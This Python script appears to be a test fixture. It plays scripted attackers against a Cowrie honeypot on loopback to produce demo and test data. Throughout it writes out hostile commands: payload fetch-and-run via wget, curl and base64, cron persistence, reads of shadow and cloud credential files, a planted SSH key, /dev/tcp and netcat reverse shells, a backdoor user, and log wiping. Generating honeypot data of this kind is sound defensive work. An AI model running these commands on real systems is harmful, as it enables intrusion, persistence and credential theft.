"""Plays five attackers against a Cowrie honeypot on loopback.

The script is ours, and so is what Cowrie records of it: it is the demo's data
and the input of the end-to-end tests. Every attacker comes from an address of
its own in 127.0.0.0/8, and nothing leaves the machine.

    attack.py SSH_PORT [TELNET_PORT]
"""

import asyncio
import random
import sys

import asyncssh

HOST = "127.0.0.1"
SSH_PORT = int(sys.argv[1])
TELNET_PORT = int(sys.argv[2]) if len(sys.argv) > 2 else 0

# cowrie.sh lets in root with any password but root and 123456, and nobody else.
WORKING_PASSWORD = "Sommer-2026!"


def connect(source, username, password, version="OpenSSH_9.2p1"):
    """Opens an SSH connection from a loopback address."""
    return asyncssh.connect(
        HOST, SSH_PORT, username=username, password=password, known_hosts=None,
        local_addr=(source, 0), client_keys=None, agent_path=None, config=None,
        preferred_auth="password,keyboard-interactive", client_version=version,
    )


async def guess(source, attempts):
    """Tries user names and passwords, one connection each, as a bot does."""
    for username, password in attempts:
        try:
            async with connect(source, username, password, "Go"):
                pass
        except (asyncssh.Error, OSError):
            pass


async def run(connection, *lines):
    """Runs each line as a command of its own (exec)."""
    for line in lines:
        try:
            await asyncio.wait_for(connection.run(line), 20)
        except (asyncio.TimeoutError, asyncssh.Error):
            pass
        except AttributeError:
            # asyncssh stumbles over a channel that the server opens and
            # closes in one packet. The command has been sent by then.
            pass


async def type_lines(connection, *lines):
    """Types lines into an interactive shell."""
    async with connection.create_process(term_type="xterm") as process:
        await asyncio.wait_for(process.stdout.readuntil("# "), 20)
        for line in lines:
            process.stdin.write(line + "\n")
            try:
                await asyncio.wait_for(process.stdout.readuntil("# "), 20)
            except asyncio.TimeoutError:
                pass
        process.stdin.write("exit\n")
        process.stdin.write_eof()


async def brute_forcer():
    """Guesses and finds nothing it wants to use."""
    words = ["123456", "password", "root", "admin123", "qwerty", "raspberry", "letmein"]
    users = ["admin", "ubuntu", "test", "oracle", "postgres", "pi", "git"]
    await guess("127.1.0.11", [(u, w) for u in users for w in random.Random(1).sample(words, 3)])
    await guess("127.1.0.11", [("root", "root"), ("root", "123456")])


async def loader():
    """Gets in and installs a bot in one breath, as scripts do."""
    await guess("127.1.0.23", [("root", "root"), ("root", "123456")])
    async with connect("127.1.0.23", "root", WORKING_PASSWORD, "libssh2_1.11.0") as c:
        await run(
            c,
            "uname -s -v -n -r -m; nproc; cat /proc/cpuinfo | grep -c processor",
            "cd /tmp || cd /var/run || cd /mnt; wget http://203.0.113.77/bins/arm7 -O .kw; "
            "curl -s http://203.0.113.77/bins/arm7 -o .kw; chmod 777 .kw; ./.kw ssh.loader; rm -rf .kw",
            "echo d2dldCAtcSBodHRwOi8vMjAzLjAuMTEzLjc3L3guc2ggLU8tIHwgc2g= | base64 -d | sh",
            "(crontab -l 2>/dev/null; echo '*/5 * * * * /var/tmp/.kw >/dev/null 2>&1') | crontab -",
            "pkill -9 xmrig; pkill -9 kinsing; ps aux | grep -v grep | grep minerd | awk '{print $2}' | xargs kill -9",
        )


async def intruder():
    """Sits at a keyboard: looks round, stays, hides."""
    async with connect("127.1.0.42", "root", WORKING_PASSWORD) as c:
        await type_lines(
            c, "w", "id", "cat /etc/os-release", "cat /etc/passwd", "cat /etc/shadow", "ip a", "netstat -antp",
            "ls -la /home /root/.ssh", "find / -perm -4000 -type f 2>/dev/null", "sudo -l",
            "grep -ri password /var/www /etc 2>/dev/null | head", "cat ~/.aws/credentials ~/.bash_history",
            "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG1hZGUtdXAta2V5LWZvci1hLWRlbW8h ops@relay' >> ~/.ssh/authorized_keys",
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 &", "iptables -F", "systemctl stop rsyslog",
            "unset HISTFILE; history -c; rm -f ~/.bash_history; cat /dev/null > /var/log/auth.log",
        )
        async with c.start_sftp_client() as sftp:
            async with sftp.open("/tmp/.X11-unix.sh", "w") as remote:
                await remote.write("#!/bin/sh\nwhile :; do nc 203.0.113.9 4444 -e /bin/sh; sleep 60; done\n")
        await run(c, "useradd -m -s /bin/bash -G sudo sysupd", "echo 'sysupd:Wint3r-Planted-Secret' | chpasswd",
                  "nohup sh /tmp/.X11-unix.sh >/dev/null 2>&1 &")


async def tunneller():
    """Uses the host as a proxy and types nothing."""
    async with connect("127.1.0.57", "root", WORKING_PASSWORD, "Paramiko_3.4.0") as c:
        for port, first in ((80, b"GET / HTTP/1.1\r\nHost: example.org\r\n\r\n"), (25, b"EHLO relay.example\r\n")):
            try:
                reader, writer = await asyncio.wait_for(c.open_connection("203.0.113.200", port), 10)
                writer.write(first)
                await asyncio.wait_for(reader.read(64), 3)
                writer.close()
            except (asyncio.TimeoutError, asyncssh.Error, OSError):
                pass


async def telnet_bot():
    """Logs in with a vendor's default and asks what it has got."""
    if not TELNET_PORT:
        return
    reader, writer = await asyncio.open_connection(HOST, TELNET_PORT, local_addr=("127.1.0.66", 0))
    try:
        for answer in ("root", "xc3511", "enable", "system", "shell", "sh", "cat /proc/mounts; /bin/busybox KWXBT",
                       "cd /dev/shm; /bin/busybox wget http://203.0.113.77/bins/mips -O - > dvr; /bin/busybox chmod 777 dvr; ./dvr telnet",
                       "exit"):
            try:
                await asyncio.wait_for(reader.read(4096), 2)
            except asyncio.TimeoutError:
                pass
            writer.write(answer.encode() + b"\r\n")
            await writer.drain()
    except OSError:
        pass
    finally:
        writer.close()


async def main():
    """Plays all of them, one after the other, so that the record is ordered."""
    for attacker in (brute_forcer, loader, intruder, tunneller, telnet_bot):
        print("playing:", attacker.__doc__.splitlines()[0], flush=True)
        await attacker()


asyncio.run(main())
